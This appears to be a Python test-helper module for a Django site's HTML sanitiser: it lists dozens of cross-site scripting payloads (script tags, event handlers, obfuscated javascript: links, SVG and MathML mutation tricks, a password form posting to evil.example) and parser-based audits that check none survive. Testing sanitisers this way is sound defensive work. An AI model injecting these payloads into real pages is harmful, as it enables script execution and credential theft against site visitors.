"""Hostile markup, and the HTML walkers that tell whether any of it survived.

The allowlist is written out here rather than imported, so that the tests check the sanitiser
against the requirement and not against itself.
"""

import json
import re
from html.parser import HTMLParser
from urllib.parse import unquote, urlsplit

from django.conf import settings

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script-uppercase-src": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "script-mixed-case": '<ScRiPt type="text/javascript">alert(document.cookie)</sCrIpT>',
    "script-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-slash-src": '<script/src="https://evil.example/x.js"></script>',
    "script-unclosed": "<p>Results<script>alert(1)",
    "script-after-quote": '"><script>alert(1)</script>',
    "attribute-breakout": '" onfocus="alert(1)" autofocus="',
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-own-media-handlers": '<img src="/media/a.jpg" onerror="alert(1)" onload="alert(2)">',
    "img-unclosed": "<img src=x onerror=alert(1)//",
    "body-onload": "<body onload=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)>",
    "video-source-onerror": '<video><source onerror="alert(1)"></video>',
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-animate-href": (
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>"
    ),
    "svg-foreign-object": (
        '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>'
    ),
    "mathml-mglyph-style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "mathml-style-title": (
        "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style>"
        '<a title="</style><img src onerror=alert(1)>">'
    ),
    "mathml-href": '<math href="javascript:alert(1)">click</math>',
    "noscript-title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "href-javascript": '<a href="javascript:alert(1)">read more</a>',
    "href-javascript-mixed-case": '<a href="JaVaScRiPt:alert(1)">read more</a>',
    "href-javascript-decimal-entities": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'
    ),
    "href-javascript-hex-entities": (
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>'
    ),
    "href-javascript-tab": '<a href="jav\tascript:alert(1)">x</a>',
    "href-javascript-tab-entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "href-javascript-named-entities": '<a href="java&NewLine;script&colon;alert(1)">x</a>',
    "href-javascript-leading-control": '<a href=" &#14; javascript:alert(1)">x</a>',
    "href-data-html": (
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'
    ),
    "href-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "link-handlers-style-target": (
        '<a href="https://example.org/" onclick="alert(1)" style="color:red" target="_blank">x</a>'
    ),
    "img-src-javascript": '<img src="javascript:alert(1)">',
    "img-src-data-svg": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "img-foreign": '<img src="https://evil.example/pixel.png" alt="pixel">',
    "img-protocol-relative": '<img src="//evil.example/media/x.png">',
    "img-media-traversal": '<img src="/media/../admin/">',
    "img-media-encoded-traversal": '<img src="/media/%2e%2e/admin/">',
    "img-srcset": '<img src="/media/a.jpg" srcset="https://evil.example/x.png 2x">',
    "style-attribute": '<p style="background:url(javascript:alert(1))">x</p>',
    "style-expression": '<div style="width: expression(alert(1))">x</div>',
    "style-element": '<style>@import "https://evil.example/x.css";</style>',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "form-action": (
        '<form action="https://evil.example/login"><input name="password">'
        '<button formaction="javascript:alert(1)">Go</button></form>'
    ),
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base-href": '<base href="https://evil.example/">',
    "broken-nesting": "<p><a href=x><script>alert(1)</script></p></a>",
    "unclosed-attribute": '<a href="https://example.org/ onmouseover=alert(1)>x',
    "table-handlers": (
        '<table background="javascript:alert(1)"><tr><td style="x" onclick="alert(1)">x</td>'
        "</tr></table>"
    ),
    "comment-script": "<!--<script>alert(1)</script>-->",
    "conditional-comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "comment-breakout": "<!-- --!><img src=x onerror=alert(1)> -->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "entity-encoded-script": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "double-encoded-script": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "template": "<template><script>alert(1)</script></template>",
    "textarea-breakout": "<textarea></textarea><img src=x onerror=alert(1)>",
    "xmp": "<xmp><script>alert(1)</script></xmp>",
    "dom-clobbering": '<img src="/media/a.jpg" name="cookie" id="x"><a id="defaultView">x</a>',
    "json-ld-breakout": "</script><script>alert(1)</script><!--",
}

ALLOWED_ATTRIBUTES = {
    **{
        tag: set()
        for tag in (
            *("p", "br", "h2", "h3", "h4", "strong", "em", "b", "i", "ul", "li", "blockquote"),
            *("figure", "figcaption", "table", "caption", "thead", "tbody", "tr"),
        )
    },
    "ol": {"start"},
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "width", "height"},
    "th": {"scope", "colspan", "rowspan"},
    "td": {"colspan", "rowspan"},
}
LINK_SCHEMES = {"http", "https", "mailto"}
LINK_REL = "noopener noreferrer"
URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "data", "poster", "background"}
# Elements no public page has, and which hostile markup would bring.
FOREIGN_ELEMENTS = {
    *("iframe", "frame", "frameset", "object", "embed", "applet", "base", "style", "noscript"),
    *("svg", "math", "mglyph", "mtext", "template", "textarea", "xmp", "plaintext", "noembed"),
    *("noframes", "details", "video", "audio", "marquee"),
}


C0_CONTROLS_AND_SPACE = "".join(map(chr, range(33)))


def scheme_of(url):
    """The scheme a browser reads: it ignores controls and spaces around the address, tabs and
    newlines inside it, and case."""
    url = re.sub(r"[\t\n\r]", "", url).strip(C0_CONTROLS_AND_SPACE)
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", url)
    return match[1].lower() if match else ""


def is_own_media(url, media_url):
    """Under `media_url`, with no way back up out of it."""
    path = unquote(urlsplit(url).path).replace("\\", "/")
    return url.startswith(media_url) and url.isprintable() and ".." not in path.split("/")


class BodyAudit(HTMLParser):
    """Walks sanitised body HTML and lists whatever in it the allowlist does not allow."""

    def __init__(self, html, media_url=None):
        super().__init__(convert_charrefs=True)
        self.problems, self.tags = [], []
        self.media_url = media_url or settings.MEDIA_URL
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        allowed = ALLOWED_ATTRIBUTES.get(tag)
        if allowed is None:
            self.problems.append(f"<{tag}> is not allowed")
            allowed = set()
        values = dict(attrs)
        for name, value in attrs:
            if name not in allowed:
                self.problems.append(f"<{tag} {name}> is not allowed")
            elif name == "href" and scheme_of(value or "") not in LINK_SCHEMES | {""}:
                self.problems.append(f"<a href={value!r}>")
            elif name == "src" and not is_own_media(value or "", self.media_url):
                self.problems.append(f"<img src={value!r}> is not our own media")
        if tag == "img" and "src" not in values:
            self.problems.append("<img> without an address")
        if tag == "a" and values.get("rel") != LINK_REL:
            self.problems.append(f"<a> without rel={LINK_REL!r}")

    def handle_comment(self, data):
        self.problems.append(f"comment {data!r}")

    def handle_decl(self, decl):
        self.problems.append(f"declaration {decl!r}")

    def unknown_decl(self, data):
        self.problems.append(f"declaration {data!r}")

    def handle_pi(self, data):
        self.problems.append(f"processing instruction {data!r}")


def assert_clean_body(html, media_url=None):
    """No executable markup, by the parser's reading and by the raw text."""
    assert BodyAudit(html, media_url).problems == []
    lowered = html.lower()
    assert "<script" not in lowered
    # The sanitiser writes "<" and ">" only around tags and '"' only around values: with the
    # values left out, no tag carries an event handler or a style.
    for tag in re.findall(r"<[^>]*>", lowered):
        assert not re.search(r"\s(on[a-z]+|style)\s*=", re.sub(r'"[^"]*"', '""', tag)), tag


class PageAudit(HTMLParser):
    """Walks a whole public page: only the page's own markup, and JSON-LD that parses."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.problems, self.json_ld = [], []
        self._in_script = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        if tag == "script":
            if values.get("type") != "application/ld+json" or "src" in values:
                self.problems.append(f"<script {values}>")
            self._in_script = True
            self.json_ld.append("")
        if tag in FOREIGN_ELEMENTS:
            self.problems.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in values:
            self.problems.append(f"<meta http-equiv={values['http-equiv']!r}>")
        action = values.get("action") or ""
        if tag == "form" and not (action.startswith("/") and not action.startswith("//")):
            self.problems.append(f"<form action={values.get('action')!r}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.problems.append(f"<{tag} {name}>")
            elif self.is_foreign_address(name, value or ""):
                self.problems.append(f"<{tag} {name}={value!r}>")

    @staticmethod
    def is_foreign_address(name, value):
        if name in URL_ATTRIBUTES and scheme_of(value) not in LINK_SCHEMES | {""}:
            return True
        return name in ("src", "srcset") and "evil.example" in value

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.json_ld[-1] += data


def audit_page(response):
    assert response.status_code == 200, response
    html = response.content.decode()
    page = PageAudit(html)
    assert page.problems == []
    # Each script element the browser would find is one the parser read as JSON-LD, whole.
    assert html.lower().count("<script") == len(page.json_ld)
    return html, [json.loads(block) for block in page.json_ld]
